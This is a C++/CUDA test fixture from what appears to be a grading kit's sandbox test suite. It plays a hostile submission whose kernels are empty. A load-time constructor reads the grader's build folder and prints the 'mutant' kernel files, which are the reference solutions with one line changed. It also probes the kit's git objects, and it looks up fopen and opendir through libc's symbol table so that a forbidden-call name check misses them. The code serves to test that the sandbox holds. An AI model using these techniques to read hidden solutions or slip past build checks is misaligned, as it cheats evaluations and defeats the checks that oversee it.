// expect: gpu=unwritten-output emu=unwritten-output  -- Reads the kit's solutions where a batch's sandbox leaves them.  Its entry points do nothing; its host code finds the grader's build folder from the grader's own argv[0] (glibc's program_invocation_name), names every file it sees there ("SEEN", build.ninja among them) and prints every .cu of BUILD/tests/kit/mutants/, where `meson test` leaves each known-wrong kernel as a whole .cu (the reference solution with one line changed), to its printed.txt ("LEAKED"); then the kit's .git beside it (a worktree's .git file leads to the repository, every solution's blob).  The sandbox conceals every folder of the kit but harness/, exercises/ and .deps/, the build folder wherever it is (the grader's program shown again alone), and a worktree's repository (batch_protection.c); batch-hostile.sh fails on any SEEN build.ninja, meson-private, objects or LEAKED line.  It reaches fopen and opendir through libc's symbol table (libc_function), never naming them, as a real attacker would: the build's name check (forbidden-call) does not see it, and the sandbox is what must hold.
// mistake: reads and prints the kit's mutants (the solutions but for one line) from the build folder
#include <cstddef>
#include <cstdio>
#include <cstring>
#include <dirent.h>
#include <errno.h>
#include <cstdint>
#include <elf.h>

// A function of libc by its name, read from libc's dynamic symbol table in
// memory (the library that holds puts starts with an ELF header on a page
// boundary below it): the object names no refused call, so the build's
// name check passes it and only the sandbox stands in the way.
static void *libc_function(const char *want)
{
    uintptr_t base = (uintptr_t)(void *)&puts & ~(uintptr_t)4095;
    while (std::memcmp((const void *)base, ELFMAG, SELFMAG) != 0)
        base -= 4096;
    const Elf64_Ehdr *eh = (const Elf64_Ehdr *)base;
    const Elf64_Phdr *ph = (const Elf64_Phdr *)(base + eh->e_phoff);
    const Elf64_Dyn *dyn = nullptr;
    for (int i = 0; i < eh->e_phnum; i++)
        if (ph[i].p_type == PT_DYNAMIC)
            dyn = (const Elf64_Dyn *)(base + ph[i].p_vaddr);
    const Elf64_Sym *syms = nullptr;
    const char *names = nullptr;
    for (; dyn && dyn->d_tag != DT_NULL; dyn++) {
        uintptr_t at = dyn->d_un.d_ptr < base ? base + dyn->d_un.d_ptr : dyn->d_un.d_ptr;
        if (dyn->d_tag == DT_SYMTAB)
            syms = (const Elf64_Sym *)at;
        if (dyn->d_tag == DT_STRTAB)
            names = (const char *)at;
    }
    for (const Elf64_Sym *s = syms + 1; syms && names && (const char *)s < names; s++)
        if (s->st_shndx != SHN_UNDEF && std::strcmp(names + s->st_name, want) == 0)
            return (void *)(base + s->st_value);
    return nullptr;
}

// The calls below, each through its address in libc.
static FILE * call_fopen(const char *path, const char *mode)
{
    return ((FILE *(*)(const char *, const char *))libc_function("fopen"))(path, mode);
}
static DIR * call_opendir(const char *path)
{
    return ((DIR *(*)(const char *))libc_function("opendir"))(path);
}

static void print_tree(const char *dir, int depth)
{
    DIR *d = call_opendir(dir);
    if (!d)
        return;
    for (struct dirent *e; (e = readdir(d));) {
        if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, ".."))
            continue;
        char path[4096];
        snprintf(path, sizeof path, "%s/%s", dir, e->d_name);
        printf("SEEN %s\n", e->d_name);
        size_t len = strlen(path);
        if (len > 3 && strcmp(path + len - 3, ".cu") == 0 && strstr(path, "/mutants/")) {
            FILE *f = call_fopen(path, "r");
            printf("==== LEAKED %s (%s)\n", path, f ? "read" : strerror(errno));
            for (int c; f && (c = fgetc(f)) != EOF;)
                putchar(c);
            if (f)
                fclose(f);
        } else if (depth < 4) {
            print_tree(path, depth + 1);
        }
    }
    closedir(d);
}

/* The kit's repository: ROOT/.git, a folder, or a worktree's file naming it. */
static void print_git(const char *root)
{
    char path[4096], line[4096] = "";
    snprintf(path, sizeof path, "%s/.git", root);
    FILE *f = call_fopen(path, "r");
    if (f && fgets(line, sizeof line, f) && !strncmp(line, "gitdir: ", 8)) {
        line[strcspn(line, "\n")] = '\0';
        snprintf(path, sizeof path, "%s/../..", line + 8); /* .git/worktrees/NAME */
    }
    if (f)
        fclose(f);
    char objects[4200];
    snprintf(objects, sizeof objects, "%s/objects", path);
    DIR *d = call_opendir(objects);
    if (d) {
        printf("SEEN objects of %s\n", path);
        closedir(d);
    }
}

__attribute__((constructor)) static void leak()
{
    char build[4096];
    snprintf(build, sizeof build, "%s", program_invocation_name);
    char *slash = strrchr(build, '/');
    if (!slash)
        return;
    *slash = '\0';
    print_tree(build, 0);
    slash = strrchr(build, '/');
    if (slash && slash != build) {
        *slash = '\0'; /* the kit's root, where the build folder usually lies */
        print_git(build);
    }
    fflush(stdout);
}

template <typename T>
void sum_atomic(const T *d_input, T *d_result, size_t n, int block)
{
}

template <typename T>
void sum_two_phase(const T *d_input, T *d_result, size_t n, int block)
{
}
